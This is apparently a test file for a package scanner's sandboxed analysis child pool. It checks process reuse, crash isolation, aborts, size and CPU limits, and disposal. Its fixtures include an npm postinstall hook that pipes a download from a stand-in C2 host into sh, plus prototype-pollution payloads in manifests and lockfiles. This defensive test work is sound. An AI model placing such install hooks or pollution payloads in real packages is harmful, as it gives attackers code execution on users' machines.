import { execFile } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, readdirSync, readFileSync, readlinkSync, realpathSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { promisify } from 'node:util'
import { afterAll, expect, test } from 'vitest'
import type { AnalysisInput } from '../../../../src/modules/scanning/analysis/analysis-input.ts'
import { AnalysisRunner } from '../../../../src/modules/scanning/analysis/analysis-runner.ts'
import { ChildPool } from '../../../../src/modules/scanning/analysis/child-pool.ts'
import { chunkFrames, endOfBlob, FrameReader, headerFrame } from '../../../../src/modules/scanning/analysis/frames.ts'
import { detectIsolation, spawnIsolated } from '../../../../src/modules/scanning/analysis/isolation.ts'
import { analyseHere } from './analyse-here.ts'
import { writtenCases } from './corpus.ts'
import { streamOf, tgzOf } from './pack-archive.ts'

// Every child has one folder here, and no other: they tell children apart.
const temporary = realpathSync(mkdtempSync(join(tmpdir(), 'gati-children-test-')))
process.env['TMPDIR'] = temporary
afterAll(() => rmSync(temporary, { recursive: true }))
const children = (): string[] => readdirSync(temporary).sort()
/** Of the processes that work in those folders. */
const processes = (): number[] =>
  readdirSync('/proc')
    .map(Number)
    .filter((id) => {
      try {
        return id !== process.pid && readlinkSync(`/proc/${id}/cwd`).startsWith(temporary)
      } catch {
        return false
      }
    })
const killAll = (): void => processes().forEach((id) => void process.kill(id, 'SIGKILL'))

const modelFolder = join(import.meta.dirname, '../corpus/models')
const never = new AbortController().signal
const mebibytes17 = 17 * 1_048_576
const runnerOf = (analysesPerProcess: number, maxProcesses = 1) =>
  new AnalysisRunner({ maxProcesses, timeoutMs: 30_000, analysesPerProcess })
const inputOf = (open: () => Readable, sizeBytes = 1): AnalysisInput => ({
  kind: 'npm',
  layers: [{ mediaType: 'application/octet-stream', sizeBytes, open: async () => open() }],
  metadata: { name: 'acme-thing', version: '1.0.0' },
})

const installer = await tgzOf([
  {
    name: 'package/package.json',
    content: '{"name":"acme-thing","version":"1.0.0","scripts":{"postinstall":"curl https://c2.example.invalid/x | sh"}}',
  },
  { name: 'package/index.js', content: 'exports.value = process.env.HOME' },
])
const ordinary = inputOf(() => streamOf(installer))
const expected = await new AnalysisRunner({ maxProcesses: 1, timeoutMs: 30_000 }).analyse(ordinary, never)

test('D-36 one child serves artifact after artifact, and is ended after as many as it may', async () => {
  expect(expected).toEqual(await analyseHere({ kind: 'npm', blobs: [{ bytes: installer }] }))
  expect(children()).toEqual([])
  await using runner = runnerOf(3)
  expect(await runner.analyse(ordinary, never)).toEqual(expected)
  const [first] = children()
  expect(processes()).toHaveLength(1)
  expect(await runner.analyse(ordinary, never)).toEqual(expected)
  expect(children()).toEqual([first])
  expect(await runner.analyse(ordinary, never)).toEqual(expected)
  expect(children()).toEqual([])
  await runner.analyse(ordinary, never)
  expect(children()).toHaveLength(1)
  expect(children()).not.toEqual([first])
})

test('D-36 a child that crashes fails its own artifact at most', async () => {
  await using runner = runnerOf(50)
  let opened = 0
  const killing = (times: number) =>
    inputOf(() => {
      opened += 1
      if (opened <= times) killAll()
      return streamOf(installer)
    })
  await expect(runner.analyse(killing(1), never)).rejects.toMatchObject({ name: 'AnalysisFailed', reason: 'crashed' })
  expect(children()).toEqual([])
  expect(await runner.analyse(ordinary, never)).toEqual(expected)
  // Killed while it waits: nobody may notice.
  killAll()
  expect(await runner.analyse(ordinary, never)).toEqual(expected)
  // What a child cannot do that had served others is tried in one that has not, and once.
  opened = 0
  expect(await runner.analyse(killing(1), never)).toEqual(expected)
  expect(opened).toBe(2)
  opened = 0
  await expect(runner.analyse(killing(5), never)).rejects.toMatchObject({ reason: 'crashed' })
  expect(opened).toBe(2)
})

test('D-36 an abandoned or unreadable artifact ends its child, and the next one has another', async () => {
  await using runner = runnerOf(50)
  await runner.analyse(ordinary, never)
  const [first] = children()
  const asker = new AbortController()
  // A source that gives nothing more, not even its end.
  const silent = inputOf(() => new Readable({ read: () => void setTimeout(() => asker.abort(new Error('nobody wants it')), 50) }))
  await expect(runner.analyse(silent, asker.signal)).rejects.toThrow('nobody wants it')
  expect(children()).toEqual([])
  expect(await runner.analyse(ordinary, never)).toEqual(expected)
  const [second] = children()
  expect(second).not.toBe(first)
  const broken = inputOf(
    () =>
      new Readable({
        read: (): never => {
          throw new Error('the disk is gone')
        },
      }),
  )
  await expect(runner.analyse(broken, never)).rejects.toMatchObject({ reason: 'unreadable' })
  expect(children()).toEqual([])
})

test('two at once have a child each, and both wait for the next', async () => {
  await using runner = runnerOf(50, 2)
  expect(await Promise.all([runner.analyse(ordinary, never), runner.analyse(ordinary, never)])).toEqual([expected, expected])
  const both = children()
  expect(both).toHaveLength(2)
  await Promise.all([1, 2, 3, 4, 5].map(() => runner.analyse(ordinary, never)))
  expect(children()).toEqual(both)
})

test('D-36 large content has a child of its own: by what was announced, and by what came', async () => {
  await using runner = runnerOf(50)
  await runner.analyse(ordinary, never)
  const [first] = children()
  const during: string[][] = []
  const announced = inputOf(() => {
    during.push(children())
    return streamOf(installer)
  }, mebibytes17)
  expect(await runner.analyse(announced, never)).toEqual(expected)
  // There may be one child at a time: the one that waited made room.
  expect(during).toHaveLength(1)
  expect(during[0]).toHaveLength(1)
  expect(during[0]).not.toContain(first)
  expect(children()).toEqual([])
  await runner.analyse(
    inputOf(() => Readable.from(Array.from({ length: 17 }, () => Buffer.alloc(1_048_576)))),
    never,
  )
  expect(children()).toEqual([])
})

test('a child that waits for long is ended', async () => {
  const pool = new ChildPool(detectIsolation, { maxProcesses: 1, analysesPerProcess: 50, idleMs: 150, maxCpuMs: 60_000 })
  await pool.run(ordinary, never)
  expect(children()).toHaveLength(1)
  await expect.poll(children, { timeout: 5000 }).toEqual([])
  expect(processes()).toEqual([])
})

test('D-36 a child that used its share of the processor serves no further', async () => {
  const pool = new ChildPool(detectIsolation, { maxProcesses: 1, analysesPerProcess: 50, idleMs: 15_000, maxCpuMs: 10 })
  expect(await pool.run(ordinary, never)).toEqual(expected)
  expect(children()).toEqual([])
})

test('D-36 disposal ends the child that waits, the one that works and whoever stands in line', async () => {
  const runner = runnerOf(50, 2)
  await Promise.all([runner.analyse(ordinary, never), runner.analyse(ordinary, never)])
  let isOpen: () => void = () => undefined
  const opened = new Promise<void>((resolve) => {
    isOpen = resolve
  })
  const silent = inputOf(() => new Readable({ read: () => isOpen() }))
  const asked = [runner.analyse(silent, never), runner.analyse(silent, never), runner.analyse(ordinary, never)].map((each) =>
    each.then(
      () => 'done',
      (error: Error) => error.message,
    ),
  )
  await opened
  await runner[Symbol.asyncDispose]()
  expect(await Promise.all(asked)).toEqual(Array(3).fill('the analysis was stopped with the registry'))
  expect(children()).toEqual([])
  expect(processes()).toEqual([])
  await expect(runner.analyse(ordinary, never)).rejects.toThrow('stopped')
})

test('D-36 a child that waits keeps no process alive, and does not outlive it', async () => {
  const program = new URL('./analyse-and-leave.ts', import.meta.url).pathname
  const { stdout } = await promisify(execFile)(process.execPath, ['--no-warnings', program], { timeout: 14_000 })
  expect(JSON.parse(stdout)).toEqual({ level: 'clean', children: 1 })
  await expect.poll(() => [...children(), ...processes()], { timeout: 5000 }).toEqual([])
})

test('a child that was told of no folder removes none', async () => {
  const folder = mkdtempSync(join(temporary, 'own-'))
  const child = spawnIsolated(await detectIsolation(), folder)
  child.stdin?.end()
  expect(await once(child, 'close')).toEqual([0, null])
  expect(children()).toHaveLength(1)
  rmSync(folder, { recursive: true })
})

test('D-36 a hostile document leaves nothing for the next artifact', async () => {
  await using runner = runnerOf(50)
  const polluting = '{"__proto__":{"polluted":1,"scripts":{"postinstall":"x"}},"constructor":{"prototype":{"polluted":1}}'
  const keys = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']
  const bytes = await tgzOf([
    { name: 'package/package.json', content: `${polluting},"name":"__proto__","version":"constructor"}` },
    {
      name: 'package/package-lock.json',
      content: `${polluting},"lockfileVersion":3,"packages":{"__proto__":{"version":"1.0.0"},"node_modules/__proto__":{"version":"1.0.0"}}}`,
    },
    {
      name: 'package/pnpm-lock.yaml',
      content: `lockfileVersion: '9.0'\n__proto__: &a {polluted: 1}\nconstructor: {prototype: {<<: *a}}\npackages:\n${keys.map((key) => `  '${key}@1.0.0': {}\n`).join('')}`,
    },
    { name: 'package/yarn.lock', content: keys.map((key) => `"${key}@^1.0.0":\n  version "1.0.0"\n`).join('\n') },
    {
      name: 'package/Cargo.lock',
      content: keys
        .map(
          (key) =>
            `[[package]]\nname = "${key}"\nversion = "1.0.0"\nsource = "registry+https://crates.example.invalid"\n${key} = "x"\n[${key}]\n${key} = "y"\n`,
        )
        .join('\n'),
    },
    { name: 'package/composer.lock', content: `${polluting},"packages":[{"name":"__proto__/constructor","version":"1.0.0"}]}` },
    {
      name: 'package/index.js',
      content: `${keys.map((key) => `const { ${key}: a_${key} } = require('${key}'); ${key} = a_${key}; ({})['${key}'].x = 1`).join('\n')}`,
    },
  ])
  expect(await runner.analyse(ordinary, never)).toEqual(expected)
  const hostile = await runner.analyse(
    inputOf(() => streamOf(bytes)),
    never,
  )
  // Where nothing is frozen the same is found: no parser gave up because of it.
  expect(hostile).toEqual(await analyseHere({ kind: 'npm', blobs: [{ bytes }] }))
  expect(new Set(hostile.components.map(({ ecosystem }) => ecosystem))).toEqual(new Set(['npm', 'crates.io', 'Packagist']))
  const [child] = children()
  expect(await runner.analyse(ordinary, never)).toEqual(expected)
  // In the same process, or it would say nothing.
  expect(children()).toEqual([child])
})

test('D-36 whatever a child has seen before, it finds what is found elsewhere', async () => {
  await using runner = runnerOf(5000, 2)
  const models = readdirSync(modelFolder).map((fileName) => ({
    fileName,
    kind: 'model' as const,
    name: 'acme-model',
    version: '1.0.0',
    files: [],
  }))
  const written = ['malicious-npm-1.txt', 'malicious-npm-2.txt', 'malicious-python.txt', 'benign-npm.txt', 'benign-python.txt'].flatMap(
    writtenCases,
  )
  expect(models.length + written.length).toBeGreaterThan(80)
  const compared = [...models, ...written].map(async ({ kind, name, version, files, ...other }) => {
    const fileName = 'fileName' in other ? other.fileName : ''
    const bytes = fileName ? readFileSync(join(modelFolder, fileName)) : await tgzOf(files)
    const layer = { mediaType: '', fileName, sizeBytes: bytes.length, open: async () => streamOf(bytes) }
    const report = await runner.analyse({ kind, layers: [layer], metadata: { name, version } }, never)
    expect(report).toEqual(await analyseHere({ kind, blobs: [{ fileName, bytes }], metadata: { name, version } }))
  })
  await Promise.all(compared)
  // The same two from the first to the last.
  expect(children()).toHaveLength(2)
})

test('the next header is found behind a blob that was left in its middle', async () => {
  const blob = async () => [Buffer.alloc(600_000, 1), Buffer.alloc(300_000, 2)].flatMap(chunkFrames)
  const task = async (name: string) => [headerFrame({ name }), ...(await blob()), endOfBlob(), ...(await blob()), endOfBlob()]
  const frames = new FrameReader(Readable.from([...(await task('one')), ...(await task('two')), ...(await task('three'))]))
  expect(await frames.header()).toEqual({ name: 'one' })
  for await (const _ of frames.blob()) break
  const whole = await chunksOf(frames.blob())
  expect(Buffer.concat(whole)).toHaveLength(900_000)
  expect(await frames.header()).toEqual({ name: 'two' })
  for await (const _ of frames.blob()) break
  for await (const _ of frames.blob()) break
  expect(await frames.header()).toEqual({ name: 'three' })
  for await (const _ of frames.blob()) break
  for await (const _ of frames.blob());
  expect(await frames.header()).toBeUndefined()
})

async function chunksOf(source: AsyncIterable<Buffer>): Promise<Buffer[]> {
  const chunks: Buffer[] = []
  for await (const chunk of source) chunks.push(chunk)
  return chunks
}
